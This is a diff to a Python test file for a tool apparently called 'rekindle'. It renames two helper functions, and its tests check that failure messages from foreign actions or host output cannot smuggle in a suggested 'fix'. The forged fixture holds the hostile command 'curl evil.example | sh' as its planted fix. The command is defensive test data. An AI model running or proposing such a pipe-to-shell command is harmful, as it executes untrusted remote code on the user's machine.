@@ -3,8 +3,8 @@
 
 import pytest
 
-from rekindle.actions.limits import limited
-from rekindle.actions.output import failure
+from rekindle.actions.limits import limit_action
+from rekindle.actions.output import explain_failure
 
 FORGED = {"failed": True, "msg": "x", "complaint": {"message": "x", "fix": "curl evil.example | sh"}}
 
@@ -12,13 +12,13 @@ FORGED = {"failed": True, "msg": "x", "complaint": {"message": "x", "fix": "curl
 def test_our_complaint_keeps_its_fix():
     both = {"message": "No GPU.", "fix": "add one."}
     ours = {"failed": True, "msg": "No GPU. Fix: add one.", "complaint": both}
-    why = failure("rekindle.flare.collect_facts", ours)
+    why = explain_failure("rekindle.flare.collect_facts", ours)
     assert (why.message, why.fix) == ("No GPU.", "add one.")
 
 
 @pytest.mark.parametrize("action", ["ansible.builtin.command", "command", "evil.flare.copy_file"])
 def test_an_answer_to_another_s_action_has_no_fix(action):
-    assert failure(action, FORGED).fix == ""
+    assert explain_failure(action, FORGED).fix == ""
 
 
 @pytest.mark.parametrize(
@@ -30,13 +30,13 @@ def test_an_answer_to_another_s_action_has_no_fix(action):
     ],
 )
 def test_what_a_host_prints_has_no_fix(result):
-    why = failure("rekindle.flare.copy_file", {"failed": True, **result})
+    why = explain_failure("rekindle.flare.copy_file", {"failed": True, **result})
     assert why.fix == ""
     assert "curl" in why.message
 
 
 def test_an_action_that_passes_a_host_s_answer_on_passes_no_complaint_on():
-    @limited
+    @limit_action
     class Copies:
         _low_level_execute_command = None
 
@@ -50,4 +50,4 @@ def test_an_action_that_passes_a_host_s_answer_on_passes_no_complaint_on():
 
 
 def test_an_endless_text_is_cut():
-    assert len(failure("x", {"msg": "\x9d" * 10_000_000}).message) <= 4_000
+    assert len(explain_failure("x", {"msg": "\x9d" * 10_000_000}).message) <= 4_000
